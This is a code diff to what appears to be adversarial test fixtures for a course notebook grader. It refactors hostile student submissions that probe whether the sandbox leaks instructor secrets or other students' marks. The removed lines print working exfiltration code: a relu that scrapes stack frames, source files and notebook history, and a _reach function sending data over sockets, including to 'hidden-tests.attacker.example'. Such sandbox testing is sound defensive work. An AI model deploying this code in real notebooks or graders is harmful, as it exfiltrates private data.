@@ -27,6 +27,7 @@ from coursekit.course.notebooks import build_submission, cells_by_id
 from support.answers import BACKWARD_WITHOUT_RELU_MASK as BACKWARD_NO_MASK
 from support.cells import TEST_CELLS
 from support.course import NOTEBOOK, SOURCE
+from support.files import exfiltrating_relu, history_sender, reach_code
 
 SECRET_ENV = ("COURSEKIT_INSTRUCTOR_SECRET", "instructor-secret-5f1c0a")
 ANOTHER_STUDENT_MARK = "another-students-private-mark-93be"
@@ -423,71 +424,18 @@ def with_shadows(packages=False, submodule_files=False, **answers):
     return build
 
 
-NETWORK = """
-def _reach(data=b"hello from a submission"):
-    import socket as _socket
-    data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
-    _addresses = [("127.0.0.1", {port}), ("localhost", {port})]
-    for _name in ["localhost", "example.com", "pypi.org", "hidden-tests.attacker.example"]:
-        try:
-            for _info in _socket.getaddrinfo(_name, {port}, type=_socket.SOCK_STREAM)[:2]:
-                _addresses.append(_info[4][:2])
-        except OSError:
-            pass
-    _sent = 0
-    for _address in _addresses:
-        try:
-            with _socket.create_connection(_address, timeout=0.5) as _s:
-                _s.sendall(data)
-                _sent += 1
-        except OSError:
-            pass
-    try:
-        _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
-        _u.sendto(b"udp " + data[:500], ("127.0.0.1", {port}))
-    except OSError:
-        pass
-    return _sent
-"""
-EXFILTRATING_RELU = """
-import inspect as _inspect, linecache as _linecache, sys as _sys
-_calls = []
-def relu(z):
-    _calls.append(1)
-    if len(_calls) <= 3:  # the first calls come from the test cells; training calls relu thousands of times
-        _found = []
-        try:
-            for _frame in _inspect.stack()[1:6]:
-                _found.append("".join(_linecache.getlines(_frame.filename)))
-                _found.append("\\n".join(_frame.frame.f_globals.get("In", []))[:20000])
-            _f = _sys._getframe(1)
-            while _f is not None:
-                _found.append(str(_f.f_code.co_filename) + repr(list(_f.f_locals))[:2000])
-                _f = _f.f_back
-        except Exception:
-            pass
-        _reach("\\n".join(_found))
-    return np.maximum(0, z)
-"""
-SEND_HISTORY = """
-try:
-    print("sent", _reach("\\n".join(In)))
-except NameError:
-    pass
-"""
-
-
-def network_code():
+def listener_port():
     assert SETTINGS["port"], "hostile.configure(port=...) must be called before the network entries are built"
-    return NETWORK.format(port=SETTINGS["port"])
+    return SETTINGS["port"]
 
 
 def exfiltrating(release_nb, reference):
     """relu and two cells of its own reach for the listener with what they found; a correct solution."""
-    nb = build_submission(release_nb, {**reference, "relu": network_code() + EXFILTRATING_RELU})
+    port = listener_port()
+    nb = build_submission(release_nb, {**reference, "relu": exfiltrating_relu(port)})
     index = [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"][0]
-    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(network_code() + "print('sent', _reach())"))
-    nb.cells.append(nbformat.v4.new_code_cell(network_code() + SEND_HISTORY))
+    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(reach_code(port) + "print('sent', _reach())"))
+    nb.cells.append(nbformat.v4.new_code_cell(history_sender(port)))
     return {"backprop.ipynb": nb}
 
 
